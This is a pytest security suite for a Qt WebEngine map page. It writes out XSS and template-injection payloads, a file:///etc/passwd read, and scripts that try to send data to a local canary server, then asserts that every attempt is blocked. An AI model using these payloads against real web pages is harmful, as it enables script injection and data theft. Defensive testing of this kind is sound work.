"""X1-X6 in a real page: what an attacker's words and scripts can do there. Nothing."""

import json
import os
from collections.abc import Iterator
from typing import Any

import pytest
from PySide6.QtWebEngineCore import QWebEngineSettings
from pytest_httpserver import HTTPServer

from maps.page import HOME, OFF
from tests.maps.conftest import WEB, Driver

pytestmark = [*WEB, pytest.mark.expects_log("map page: ")]

ATTACKS = [
    "<img src=x onerror=window.PWN=1>",
    "<svg onload=window.PWN=1>",
    "</script><script>window.PWN=1</script>",
    "{{7*7}}",
    "{{ cycler.__init__.__globals__.os.getpid() }}",
    "{% for x in y %}",
    "${window.PWN=1}",
    "`${window.PWN=1}`",
    "');window.PWN=1;//",
    "\u2028window.PWN=1",
]


@pytest.fixture
def canary(httpserver: HTTPServer) -> Iterator[HTTPServer]:
    httpserver.no_handler_status_code = 200
    yield httpserver
    httpserver.clear()


def hits(canary: HTTPServer) -> list[str]:
    return [request.path for request, _ in canary.log]


def shown_card(driver: Driver, lines: list[str]) -> list[str]:
    driver.js("poc._parts.card.expect({x: 50, y: 50}); 1")
    driver.view.set_card(lines)
    text = "JSON.stringify([...document.querySelectorAll('.map-card > div')].map(d => d.textContent))"
    driver.until(lambda: json.loads(driver.js(text)))
    shown: list[str] = json.loads(driver.js(text))
    return shown


def test_X1_X2_attack_words_are_shown_literally(driver: Driver) -> None:
    for begin in range(0, len(ATTACKS), 5):
        part = ATTACKS[begin : begin + 5]
        assert shown_card(driver, part) == part
    driver.view.set_status(ATTACKS[0])
    driver.view.set_words(dict.fromkeys(("complaints", "schematic", "zoomIn", "follow", "home"), ATTACKS[0]))
    driver.wait(300)
    assert driver.js("document.querySelectorAll('img, svg [onload], .map-card script, .map-card svg').length") == 0
    assert driver.js("document.querySelector('.map-status span').textContent") == ATTACKS[0]
    assert driver.js("typeof window.PWN") == "undefined"
    assert str(os.getpid()) not in driver.js("document.body.textContent")


def test_X3_no_text_becomes_a_link_and_no_address_is_gone_to(driver: Driver) -> None:
    addresses = ["javascript:window.PWN=1", "data:text/html,<b>x", "file:///etc/passwd", "poc://app/base.json"]
    assert shown_card(driver, addresses) == addresses
    assert driver.js("document.links.length") == 0
    driver.js("window.mark = 1")
    for address in [*addresses, "https://example.com/", "mailto:a@b.c", "chrome://gpucrash", "poc://app/#x"]:
        driver.js(f"setTimeout(() => {{ location.href = {json.dumps(address)} }}); 1")
        driver.wait(120)
        driver.js(f"setTimeout(() => {{ const a = document.createElement('a'); a.href = {json.dumps(address)};"
                  "document.body.append(a); a.click() }); 1")  # fmt: skip
        driver.wait(120)
    assert driver.js("window.mark") == 1 and driver.js("typeof window.PWN") == "undefined"
    assert driver.view.page.url().toString().split("#")[0] == HOME.toString()


def test_X4_markup_forced_into_the_page_reaches_nobody(driver: Driver, canary: HTTPServer) -> None:
    url = canary.url_for("/hit")
    markup = (
        f'<meta http-equiv="refresh" content="0;url={url}"><base href="{url}/"><img src="{url}/img">'
        f'<form action="{url}" id="f"><input name="a"></form><iframe src="{url}/frame"></iframe>'
        f"<iframe srcdoc=\"<img src='{url}/srcdoc'><script>parent.PWN=1</script>\"></iframe>"
        f'<object data="{url}/object"></object><embed src="{url}/embed"><link rel="stylesheet" href="{url}/css">'
        f'<style>body {{ background: url({url}/style) }}</style><p style="background: url({url}/attribute)">x</p>'
        f'<video src="{url}/video" autoplay></video><audio src="{url}/audio" autoplay></audio>'
        f'<img src=x onerror="window.PWN=1; fetch(\'{url}/handler\')"><svg onload="window.PWN=1"></svg>'
    )
    driver.js(f"window.mark = 1; document.body.insertAdjacentHTML('beforeend', {json.dumps(markup)}); 1")
    driver.js("setTimeout(() => document.getElementById('f').submit()); 1")
    driver.wait(1500)
    assert hits(canary) == []
    assert driver.js("window.mark") == 1 and driver.js("typeof window.PWN") == "undefined"


def test_X5_a_script_in_the_page_reaches_nobody_and_nothing(driver: Driver, canary: HTTPServer) -> None:
    url = canary.url_for("/hit")
    attack = f"""
    window.R = {{}};
    const note = (name, value) => {{ R[name] = String(value); }};
    fetch('{url}/fetch').then(() => note('fetch', 'sent'), () => note('fetch', 'refused'));
    fetch('{url}/cors', {{mode: 'no-cors'}}).then(() => note('cors', 'sent'), () => note('cors', 'refused'));
    fetch('file:///etc/passwd').then(() => note('file', 'read'), () => note('file', 'refused'));
    try {{ new WebSocket('{url.replace("http", "ws")}/socket').onopen = () => note('socket', 'open'); }} catch (e) {{}}
    try {{ navigator.sendBeacon('{url}/beacon', 'x'); }} catch (e) {{}}
    try {{ note('worker', new Worker('data:text/javascript,1')); }} catch (e) {{ note('worker', 'refused'); }}
    setTimeout(() => {{ try {{ eval('window.PWN = 1'); }} catch (e) {{ note('eval', 'refused'); }} }});
    setTimeout(() => {{ try {{ new Function('window.PWN = 1')(); }} catch (e) {{ note('function', 'refused'); }} }});
    const s = document.createElement('script'); s.src = '{url}/script'; document.head.append(s);
    const t = document.createElement('script'); t.textContent = 'window.PWN = 1'; document.head.append(t);
    navigator.geolocation?.getCurrentPosition(() => note('place', 'known'), () => note('place', 'refused'));
    const a = document.createElement('a'); a.href = '/base.json'; a.download = '../../x';
    document.body.append(a); a.click();
    note('window', window.open('{url}/window'));
    setTimeout(() => {{ alert('x'); note('asked', confirm('x') || prompt('x')); }});
    try {{ localStorage.x = 1; note('storage', 'kept'); }} catch (e) {{ note('storage', 'refused'); }}
    try {{
      navigator.clipboard.readText().then(() => note('clip', 'read'), () => note('clip', 'refused'));
    }} catch (e) {{ note('clip', 'refused'); }}
    1"""
    downloads: list[Any] = []
    driver.view.page.profile().downloadRequested.connect(lambda item: downloads.append(item.state()))
    driver.js(attack)
    driver.wait(2000)
    result = json.loads(driver.js("JSON.stringify(R)"))
    assert hits(canary) == []
    assert driver.js("typeof window.PWN") == "undefined"
    refused = ("fetch", "cors", "file", "eval", "function", "place", "storage", "clip")
    assert {name: result.get(name) for name in refused} == dict.fromkeys(refused, "refused")
    assert "socket" not in result and result["window"] == "null" and result["asked"] in ("false", "null", "")
    assert not [state for state in downloads if state.name in ("DownloadInProgress", "DownloadCompleted")]


def test_X5_every_extra_power_of_a_browser_is_off(driver: Driver) -> None:
    settings = driver.view.page.settings()
    assert not [attribute.name for attribute in OFF if settings.testAttribute(attribute)]
    policy = settings.unknownUrlSchemePolicy()
    assert policy == QWebEngineSettings.UnknownUrlSchemePolicy.DisallowUnknownUrlSchemes
    assert driver.view.page.profile().isOffTheRecord()


def test_X5_a_canvas_cannot_be_read_back(driver: Driver) -> None:
    driver.show()
    read = """(() => { try {
      const c = document.querySelector('.leaflet-live-pane canvas');
      return [...c.getContext('2d').getImageData(0, 0, c.width, c.height).data].some((v, i) => v) ? 'read' : 'blank';
    } catch (e) { return 'refused'; } })()"""
    assert driver.js(read) in ("refused", "blank")


def test_X6_the_page_has_no_bridge_and_the_event_path_no_ear_for_floods(driver: Driver) -> None:
    clicked: list[Any] = []
    driver.view.feature_clicked.connect(lambda *a: clicked.append(a))
    assert driver.js("typeof window.qt") == "undefined"
    driver.js(
        """window.say = (o, init) => fetch('/event?' + encodeURIComponent(JSON.stringify(o)), init).catch(() => {});
        say({name: 'click', kind: 'vehicle', key: 1}, {method: 'POST'});
        say({name: 'click', kind: 'vehicle', key: '12x'});
        say({name: 'deleteLater'});
        say({name: 'click', kind: {}, key: []});
        say({name: 'click', kind: 'vehicle', key: 2, rest: 'x'.repeat(5000000)}); 1"""
    )
    driver.wait(800)
    assert clicked == []
    driver.js("for (let i = 0; i < 1000; i++) say({name: 'click', kind: 'vehicle', key: 3}); 1")
    driver.wait(1500)
    assert 0 < len(clicked) <= 300
    driver.wait(1500)
    assert driver.js("1 + 1") == 2


def test_the_page_breaks_its_own_policy_nowhere(driver: Driver, caplog: pytest.LogCaptureFixture) -> None:
    driver.show()
    driver.view.fly_to(-6.24, 106.99, 14)
    shown_card(driver, ["a", "b"])
    driver.wait(800)
    said = [record.getMessage() for record in caplog.records if record.name.startswith("maps")]
    assert said == []
